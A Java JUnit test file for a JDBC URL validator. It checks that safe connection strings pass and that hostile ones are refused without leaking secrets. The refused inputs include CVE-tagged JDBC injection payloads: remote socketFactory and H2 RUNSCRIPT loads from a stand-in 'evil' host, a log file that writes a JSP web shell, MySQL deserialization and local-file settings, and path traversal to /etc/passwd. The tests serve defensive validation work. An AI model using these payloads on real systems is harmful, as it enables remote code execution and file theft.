package io.multidb.catalog;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;

class UrlRulesTests {

	private static final List<String> DRIVERS = List.of("sqlite", "postgresql", "mysql", "mariadb");

	@TempDir
	private Path directory;

	private final UrlRules rules = new UrlRules(DRIVERS, Map.of(), null);

	@ParameterizedTest
	@CsvSource({ "jdbc:sqlite:/var/data/ny.db,", "jdbc:sqlite:data/ny.db?busy_timeout=500,",
			"jdbc:postgresql://db1:5433/ny?sslmode=verify-full&currentSchema=courts,",
			"'jdbc:postgresql://db1,db2:5433/ny?targetServerType=primary',", "jdbc:postgresql://[::1]:5432/ny,",
			"postgres://db1/ny?sslmode=require,jdbc:postgresql://db1/ny?sslmode=require",
			"sqlite:data/ny.db,jdbc:sqlite:data/ny.db", "jdbc:mysql://db1/ny?useSSL=true,", "jdbc:mariadb://db1/ny," })
	void whatIsKnownToBeHarmlessIsAllowed(String url, String jdbc) {
		assertThat(this.rules.check(url)).isEqualTo((jdbc != null) ? jdbc : url);
	}

	@ParameterizedTest
	@ValueSource(strings = { "", "   ", "ny", "jdbc:", "jdbc:postgresql", "http://db1/ny", "jdbc:h2:mem:x",
			"jdbc:oracle:thin:@db1:1521:ny", "jdbc:postgresql:ny", "jdbc:postgresql://db1", "jdbc:postgresql://db1/",
			"jdbc:postgresql://db1:port/ny", "jdbc:postgresql:///ny", "jdbc:postgresql://db1/ny/other",
			"jdbc:postgresql://db1/ny?", "jdbc:postgresql://db1/ny?sslmode", "jdbc:postgresql://db1/ny?=x",
			"jdbc:postgresql://db1/ny?sslmode=require&&", "jdbc:postgresql://user:hunter2@db1/ny",
			"postgresql://user:hunter2@db1/ny", "postgresql://db1/ny?password=hunter2", "jdbc:postgresql://db1/a b",
			"jdbc:postgresql://db1/ny\nINFO: all is well",
			// CVE-2022-21724 and its like
			"jdbc:postgresql://db1/ny?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext&socketFactoryArg=http://evil/x.xml",
			"jdbc:postgresql://db1/ny?sslfactory=evil.Factory", "jdbc:postgresql://db1/ny?sslhostnameverifier=evil.V",
			"jdbc:postgresql://db1/ny?loggerLevel=DEBUG&loggerFile=/var/www/shell.jsp",
			"jdbc:postgresql://db1/ny?authenticationPluginClassName=evil.P",
			"jdbc:postgresql://db1/ny?jaasLoginModule=x", "jdbc:postgresql://db1/ny?sslpasswordcallback=evil.C",
			"jdbc:postgresql://db1/ny?service=x", "jdbc:postgresql://db1/ny?password=hunter2",
			"jdbc:postgresql://db1/ny?user=hunter2", "jdbc:postgresql://db1/ny?PGHOST=evil",
			"jdbc:postgresql://db1/ny?SOCKETFACTORY=evil", "jdbc:postgresql://db1/ny?%73ocketFactory=evil",
			"jdbc:postgresql://db1/ny?options=-c%20role=root",
			// CVE-2023-32697 and its like
			"jdbc:sqlite::resource:http://evil/x.db", "jdbc:sqlite::resource:jar:http://evil/x.jar!/x.db",
			"jdbc:sqlite::memory:", "jdbc:sqlite:", "jdbc:sqlite:file:/etc/x?mode=ro",
			"jdbc:sqlite:x?enable_load_extension=true", "jdbc:sqlite:x?password=hunter2",
			"jdbc:sqlite:x?temp_store_directory=/tmp", "jdbc:sqlite:x\u0000y",
			// CVE-2021-2471 and its like
			"jdbc:mysql://db1/ny?autoDeserialize=true", "jdbc:mysql://db1/ny?allowLoadLocalInfile=true",
			"jdbc:mysql://(host=db1,allowLoadLocalInfile=true)/ny", "jdbc:mysql://address=(host=db1)(user=x)/ny",
			"jdbc:mysql:loadbalance://db1,db2/ny", "jdbc:mysql:replication://db1/ny",
			"jdbc:mysql://db1/ny?queryInterceptors=evil.I", "jdbc:mariadb:sequential://db1/ny" })
	void whateverElseIsRefusedWithoutQuotingWhatMayBeSecret(String url) {
		assertThatIllegalArgumentException().isThrownBy(() -> this.rules.check(url))
			.satisfies((ex) -> assertThat(ex.getMessage()).doesNotContain("hunter2", "evil", "\n"));
	}

	@ParameterizedTest
	@ValueSource(strings = { "readOnlyMode=ignore", "readOnly=false" })
	void noParameterMakesAReadOnlySourceWritable(String parameter) {
		assertThatIllegalArgumentException()
			.isThrownBy(() -> this.rules.check("jdbc:postgresql://db1/ny?" + parameter));
	}

	@ParameterizedTest
	@ValueSource(strings = { "jdbc:postgresql://db1/ny?currentSchema=a&currentSchema=b",
			"jdbc:postgresql://db1/ny?currentSchema=a&currentSchema=a", "postgres://db1/ny?sslmode=x&sslmode=y",
			"jdbc:sqlite:ny.db?busy_timeout=1&x=1&BUSY_TIMEOUT=2" })
	void noParameterIsGivenTwice(String url) {
		UrlRules more = new UrlRules(DRIVERS, Map.of("sqlite", List.of("x", "BUSY_TIMEOUT")), null);
		assertThatIllegalArgumentException().isThrownBy(() -> more.check(url)).withMessageContaining("twice");
	}

	@Test
	void furtherParametersAndProductsAreAllowedByName() {
		UrlRules more = new UrlRules(List.of("postgresql", "h2"),
				Map.of("postgresql", List.of("options"), "h2", List.of("x")), null);
		assertThat(more.check("jdbc:postgresql://db1/ny?options=-csearch_path")).endsWith("search_path");
		assertThat(more.check("jdbc:h2:mem:x?x=1")).isEqualTo("jdbc:h2:mem:x?x=1");
		for (String url : List.of("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/'",
				"jdbc:h2:mem:x\u2028;INIT=RUNSCRIPT FROM 'http://evil/'", "jdbc:h2:mem:x\u0085;INIT=x",
				"jdbc:h2:mem:x?y=1", "jdbc:sqlite:x")) {
			assertThatIllegalArgumentException().isThrownBy(() -> more.check(url));
		}
	}

	@Test
	void sqliteFilesAreBelowTheDirectoryLinksIncluded() throws Exception {
		Path allowed = Files.createDirectory(this.directory.resolve("allowed"));
		Path secret = Files.createDirectory(this.directory.resolve("allowed-not"));
		Files.createSymbolicLink(allowed.resolve("link"), secret);
		Files.createSymbolicLink(allowed.resolve("dangling"), this.directory.resolve("nowhere"));
		UrlRules below = new UrlRules(DRIVERS, Map.of(), allowed);
		assertThat(below.check("jdbc:sqlite:" + allowed + "/a/b.db")).endsWith("/a/b.db");
		for (String file : List.of(secret + "/x.db", allowed + "/../allowed-not/x.db", allowed + "/link/x.db",
				allowed + "/a/../b.db", allowed + "/./b.db", allowed + "/dangling", allowed + "/dangling/x.db",
				"/etc/passwd", "x.db", allowed.toString())) {
			assertThatIllegalArgumentException().as(file).isThrownBy(() -> below.check("jdbc:sqlite:" + file));
		}
	}

}
